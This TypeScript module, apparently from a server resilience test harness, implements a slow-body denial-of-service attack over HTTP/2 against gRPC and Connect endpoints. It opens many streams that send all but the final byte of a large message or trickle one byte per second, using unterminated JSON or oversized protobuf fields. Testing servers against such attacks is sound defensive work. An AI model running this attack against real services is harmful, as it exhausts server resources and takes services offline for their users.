// Requests over HTTP/2 whose body comes in part: all but the last byte of the largest message, or a byte a second.

import { begin, data } from '../../http2-server/raw-frames.ts';
import { frame } from '../../support/rpc-clients.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { CONTENT_TYPES, callBlock, ends, openPeer, type Peer, type Protocol } from '../attacker/http2-peer.ts';
import { tally } from '../attacker/tally.ts';

const BYTE_EVERY_MS = 1000;

/**
 * Options: `connections`, `streams` on each, `protocol`, `path`, `bytes` of the message, `sends`: `all-but-one` or `trickle`. With
 * `encoding` the call is not one for the unary fast path; with `partBytes` its DATA frames are so small. `message`: `empty
 * ones` are many without content instead of one.
 */
export const attack: Attack = async ({ target, options }) => {
  const { connections, streams, protocol, path, bytes, sends, encoding, partBytes, message } = options;
  const encodings: [string, string][] = encoding === undefined ? [] : [['grpc-encoding', String(encoding)]];
  const block = callBlock(target, String(path), CONTENT_TYPES[protocol as Protocol], ...encodings);
  const whole = message === 'empty ones' ? Buffer.alloc(Number(bytes)) : bodyOf(protocol as Protocol, Number(bytes));
  const body = whole.subarray(0, -1);
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const ended = new Set<number>();
      const peer = await openPeer(target, {
        onFrame: (received) => {
          if (ends(received)) ended.add(received.stream);
        },
      });
      await wait(100, until); // The windows of the server are known.
      await Promise.all(
        Array.from({ length: Number(streams) }, async () => {
          while (!until.aborted && !peer.isClosed()) {
            const id = peer.nextId();
            const isOver = () => until.aborted || peer.isClosed() || ended.has(id);
            peer.send(begin(id, block));
            tally('calls opened');
            if (sends === 'trickle') await trickle(peer, id, body, isOver, until);
            else await peer.upload(id, body, isOver, partBytes === undefined ? undefined : Number(partBytes));
            while (!isOver()) await wait(200, until);
          }
        }),
      );
    });
};

async function trickle(peer: Peer, id: number, body: Buffer, isOver: () => boolean, until: AbortSignal): Promise<void> {
  for (let at = 0; at < body.length && !isOver(); at++) {
    peer.send(data(id, body.subarray(at, at + 1)));
    tally('bytes of bodies');
    await wait(BYTE_EVERY_MS, until);
  }
}

/** A body whose message is `bytes` long: JSON that does not end, or a message that is nearly one field. */
function bodyOf(protocol: Protocol, bytes: number): Buffer {
  if (protocol === 'connect-json') return Buffer.concat([Buffer.from('{"items":['), Buffer.alloc(bytes - 10, ' ')]);
  const message = Buffer.concat([Buffer.from('0a82808002', 'hex'), Buffer.alloc(bytes - 5)]);
  return protocol === 'connect' ? message : frame(message);
}
